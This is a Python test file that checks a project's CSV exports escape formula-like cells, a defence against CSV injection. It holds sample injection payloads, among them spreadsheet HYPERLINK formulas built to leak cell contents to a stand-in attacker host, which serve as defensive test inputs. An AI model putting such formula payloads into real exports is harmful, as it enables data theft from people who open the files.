"""CSV exports escape cells a spreadsheet would run as formulas (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from ccms_graph.errors import DomainError
from ccms_graph.logic.common import csv_safe
from ccms_graph.logic.oversight import audit
from ccms_graph.logic.people import auth
from ccms_graph.queries.runner import Result, to_csv

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_written_as_text(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value, cell", [(-5, "-5"), (2.5, "2.5"), (True, "true"), (None, ""), ("O'Brien", "O'Brien"),
                                         ("a=b", "a=b")])
def test_numbers_and_plain_text_are_left_alone(value, cell):
    assert csv_safe(value) == cell


def test_a_failed_sign_in_named_like_a_formula_reaches_the_auditors_export_as_text(graph, org):
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    with pytest.raises(DomainError):
        auth.authenticate(graph, evil, "wrong-password-123", "127.0.0.1")
    out = io.StringIO()
    audit.export_csv(graph, org.auditor, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert any(evil.lower() in cell for cell in cells)  # the attempt is there (usernames are lower-cased) ...
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]  # ... and nothing runs


def test_a_saved_query_table_escapes_its_cells_and_keeps_numbers():
    result = Result(name="q", kind="table", version=None, params={}, columns=["name", "n"],
                    rows=[{"name": "@cmd", "n": -3}, {"name": "=1+1", "n": 4}])
    rows = list(csv.reader(io.StringIO(to_csv(result))))
    assert rows == [["name", "n"], ["'@cmd", "-3"], ["'=1+1", "4"]]
